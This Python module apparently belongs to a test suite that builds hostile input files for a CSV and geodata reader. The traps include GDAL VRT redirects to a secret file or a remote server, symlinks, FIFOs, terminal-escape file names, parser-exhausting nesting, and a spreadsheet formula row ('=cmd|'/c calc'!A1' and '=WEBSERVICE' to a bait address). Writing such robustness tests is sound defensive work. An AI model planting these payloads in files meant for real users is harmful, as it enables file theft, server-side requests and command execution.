"""Text that is not what its name says, and paths that lead elsewhere."""

from __future__ import annotations

import os
import struct
from pathlib import Path

from benchmarks.hostile_files.bait import HEADER, Bait, hostile, vrt


@hostile
def vrt_named_csv(bait: Bait) -> Path:
    """Make GDAL read another file."""
    return bait.put("a.csv", vrt(f"CSV:{bait.secret}"))


@hostile
def vrt_after_blanks(bait: Bait) -> Path:
    """Hide the virtual layer behind a mark and blanks."""
    return bait.put("a.csv", "\ufeff \n\t" + vrt(str(bait.secret)))


@hostile
def vrt_of_an_address(bait: Bait) -> Path:
    """Make GDAL ask a server."""
    return bait.put("a.csv", vrt(f"/vsicurl/{bait.address}/a.csv"))


@hostile
def link_to_a_secret(bait: Bait) -> Path:
    """Name one file and give another."""
    path = bait.folder / "a.csv"
    path.symlink_to(bait.secret)
    return path


@hostile
def pipe_nobody_writes(bait: Bait) -> Path:
    """Wait for ever."""
    path = bait.folder / "a.csv"
    os.mkfifo(path)
    return path


@hostile
def endless_device(_bait: Bait) -> Path:
    """Read for ever."""
    return Path("/dev/zero")


@hostile
def address_as_a_name(bait: Bait) -> Path:
    """Ask a server by path."""
    return Path(f"{bait.address}/a.csv")


@hostile
def virtual_path(bait: Bait) -> Path:
    """Ask a server by a virtual path of GDAL."""
    return Path(f"/vsicurl/{bait.address}/a.csv")


@hostile
def name_of_two_lines(bait: Bait) -> Path:
    """Write a line of its own on the screen, and colour it."""
    return bait.put("a\n\x1b[31mError: all is lost.csv", "plain words")


@hostile
def zero_bytes(bait: Bait) -> Path:
    """Be no text at all."""
    return bait.put("a.csv", bytes(1_000_000))


@hostile
def random_bytes(bait: Bait) -> Path:
    """Be noise; the same noise each time."""
    noise = b"".join(struct.pack("<Q", n * 0x9E3779B97F4A7C15 % 2**64) for n in range(50_000))
    return bait.put("a.csv", noise)


@hostile
def line_without_end(bait: Bait) -> Path:
    """Hold one cell of 20 MB."""
    return bait.put("a.csv", HEADER + "\n" + "甲" * 7_000_000)


@hostile
def quote_without_end(bait: Bait) -> Path:
    """Open a quote and never close it."""
    return bait.put("a.csv", HEADER + '\n"' + "甲厂,东村\n" * 100_000)


@hostile
def formulas_as_text(bait: Bait) -> Path:
    """Start a program where a spreadsheet would compute."""
    return bait.put("a.csv", f"{HEADER}\n=cmd|'/c calc'!A1,=WEBSERVICE(\"{bait.address}\"),115,35")


@hostile
def outline_in_outlines(bait: Bait) -> Path:
    """Exhaust the stack of whoever parses the outline."""
    deep = "GEOMETRYCOLLECTION(" * 20_000 + "POINT(1 1)" + ")" * 20_000
    return bait.put("a.csv", f'村名,边界WKT\n东村,"{deep}"')


@hostile
def web_page_named_xls(bait: Bait) -> Path:
    """Fetch a picture when it is opened."""
    return bait.put("a.xls", f'<html><img src="{bait.address}/a.png"><table></table></html>')


@hostile
def gzip_flood(bait: Bait) -> Path:
    """Unpack to much more."""
    return bait.put("a.csv", b"\x1f\x8b" + bytes(1000))
